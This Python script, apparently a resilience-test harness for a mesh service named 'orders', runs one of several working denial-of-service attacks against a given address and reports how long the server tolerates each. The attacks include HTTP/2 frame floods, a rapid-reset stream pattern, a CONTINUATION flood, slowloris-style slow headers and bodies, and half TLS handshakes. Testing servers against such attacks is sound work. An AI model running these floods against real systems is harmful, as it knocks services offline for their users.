#!/usr/bin/env python3
"""One kind of attack, from an address of its own.

    attack.py KIND ADDRESS PEM CONNECTIONS SECONDS PATIENCE

Prints a line when it has begun. Whoever is closed comes back at once, until the time is over. Prints JSON at the end: how
many attacks there were, the seconds of the one that was borne with for longest, and how many were not closed for PATIENCE
seconds.
"""

import json
import os
import socket
import ssl
import sys
import threading
import time

SOURCE = "127.66.6.6"
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
TRICKLE_SECONDS = 0.2
PIECE = 64 << 10


def main():
    """Runs what the command line says."""
    kind, address, pem, connections, seconds, patience = sys.argv[1:]
    os.nice(19)
    host, port = address.rsplit(":", 1)
    attack = Attack(kind, (host, int(port)), pem, float(patience))
    print("begun", flush=True)
    attack.run(int(connections), time.perf_counter() + float(seconds))
    print(json.dumps({"attacks": attack.attacks, "slowest": attack.slowest, "open": attack.left_open}))


def frame(kind, flags, stream, payload=b""):
    """RFC 9113, 4.1."""
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


def head(stream, end, method=b"\x82"):
    """A request for /small, with nothing in HPACK's table."""
    block = method + b"\x87" + b"\x04\x06/small" + b"\x01\x06orders"
    return frame(1, 4 | end, stream, block)


POST = b"\x83"
FRAMES = {
    "ping": frame(6, 0, 0, b"12345678"),
    "plain_ping": frame(6, 0, 0, b"12345678"),
    "settings": frame(4, 0, 0),
    "window_update": frame(8, 0, 0, b"\0\0\0\1"),
    "priority": frame(2, 0, 1, b"\0\0\0\0\1"),
    "unknown": frame(0xEE, 0, 0, b"?" * 16),
}


def flood_of(kind):
    """What begins an HTTP/2 flood, and what is then sent again and again."""
    begin = PREFACE + frame(4, 0, 0)
    if kind in FRAMES:
        return begin, FRAMES[kind] * (PIECE // len(FRAMES[kind]))
    if kind == "empty_data":
        return begin + head(1, 0, POST), frame(0, 0, 1) * (PIECE // 9)
    if kind == "tiny_data":
        return begin + head(1, 0, POST), frame(0, 0, 1, b"x") * 6000
    if kind == "continuation":
        return begin + frame(1, 0, 1, b"\x82\x87"), frame(9, 0, 1) * (PIECE // 9)
    pairs = (head(stream, 1) + frame(3, 0, stream, b"\0\0\0\x08") for stream in range(1, 60000, 2))
    return begin, b"".join(pairs)


class Attack:
    """Its connections, and what became of them."""

    def __init__(self, kind, to, pem, patience):
        self._kind = kind
        self._to = to
        self._patience = patience
        self._lock = threading.Lock()
        self.attacks = 0
        self.slowest = 0.0
        self.left_open = 0
        self._http1 = context(pem, "http/1.1")
        self._http2 = context(pem, "h2")

    def run(self, connections, ends):
        """Attacks until `ends`."""
        single = {
            "not_tls": self._garbage, "connects": self._connect, "handshakes": self._handshake,
        }.get(self._kind)
        if single:
            self._together(connections, ends, single)
        elif self._kind in ("silence", "half_handshakes", "slow_heads", "slow_bodies"):
            self._trickle(connections, ends)
        else:
            begin, piece = flood_of(self._kind)
            self._together(connections, ends, lambda: self._flood(begin, piece))

    def _together(self, connections, ends, one):
        def again():
            while time.perf_counter() < ends:
                self._count(*one())

        threads = [threading.Thread(target=again, daemon=True) for _ in range(connections)]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join()

    def _count(self, seconds, closed):
        with self._lock:
            self.attacks += 1
            self.slowest = max(self.slowest, seconds)
            self.left_open += not closed

    def _dial(self):
        # The kernel chooses the port when it knows both ends, so that there are enough.
        plain = socket.socket()
        plain.setsockopt(socket.IPPROTO_IP, 24, 1)
        plain.bind((SOURCE, 0))
        plain.settimeout(self._patience)
        plain.connect(self._to)
        plain.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        return plain

    def _flood(self, begin, piece):
        """Sends until it fails. How long that took from the flood's first byte, and whether it failed."""
        began = time.perf_counter()
        try:
            plain = self._dial()
            wire = plain if self._kind == "plain_ping" else self._http2.wrap_socket(plain)
            began = time.perf_counter()
            with wire:
                wire.sendall(begin)
                while time.perf_counter() - began < self._patience:
                    wire.sendall(piece)
            return time.perf_counter() - began, False
        except TimeoutError:
            return time.perf_counter() - began, False
        except OSError:
            return time.perf_counter() - began, True

    def _garbage(self):
        return self._until_closed(lambda plain: plain.sendall(b"GET / HTTP/1.1\r\nhost: orders\r\n\r\n"))

    def _until_closed(self, speak):
        began = time.perf_counter()
        try:
            with self._dial() as plain:
                began = time.perf_counter()
                speak(plain)
                while plain.recv(1 << 14):
                    pass
        except TimeoutError:
            return time.perf_counter() - began, False
        except OSError:
            pass
        return time.perf_counter() - began, True

    def _connect(self):
        """Nobody need close it: it is gone."""
        try:
            self._dial().close()
        except OSError:
            time.sleep(0.001)
        return 0.0, True

    def _handshake(self):
        try:
            self._http1.wrap_socket(self._dial()).close()
        except OSError:
            time.sleep(0.001)
        return 0.0, True

    def _trickle(self, connections, ends):
        """Holds so many connections, each with a byte now and then, if it is of that kind."""
        held = {}
        while time.perf_counter() < ends or held:
            for _ in range(connections - len(held)):
                if time.perf_counter() >= ends:
                    break
                self._begin(held)
            for wire, began in list(held.items()):
                self._go_on(wire, began, held)
            time.sleep(TRICKLE_SECONDS)

    def _begin(self, held):
        try:
            plain = self._dial()
            wire = plain
            if self._kind == "half_handshakes":
                wire.sendall(self._hello())
            elif self._kind == "slow_heads":
                wire = self._http1.wrap_socket(plain)
                wire.sendall(b"GET /small HTTP/1.1\r\nhost: ord")
            elif self._kind == "slow_bodies":
                wire = self._http1.wrap_socket(plain)
                wire.sendall(b"POST /small HTTP/1.1\r\nhost: orders\r\ncontent-length: 100000\r\n\r\n")
            wire.setblocking(False)
            held[wire] = time.perf_counter()
        except OSError:
            self._count(0.0, True)

    def _go_on(self, wire, began, held):
        took = time.perf_counter() - began
        closed = False
        try:
            if self._kind.startswith("slow"):
                wire.send(b"x")
            while more := wire.recv(1 << 14):
                # A refusal is the end.
                closed |= more.startswith(b"HTTP/1.1 4")
            closed = True
        except (ssl.SSLWantReadError, BlockingIOError):
            pass
        except OSError:
            closed = True
        if closed or took > self._patience:
            del held[wire]
            wire.close()
            self._count(took, closed)

    def _hello(self):
        incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
        session = self._http1.wrap_bio(incoming, outgoing)
        try:
            session.do_handshake()
        except ssl.SSLWantReadError:
            pass
        return outgoing.read()


def context(pem, protocol):
    """An SVID of the mesh."""
    made = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    made.check_hostname = False
    made.verify_mode = ssl.CERT_NONE
    made.load_cert_chain(pem)
    made.set_alpn_protocols([protocol])
    return made


if __name__ == "__main__":
    main()
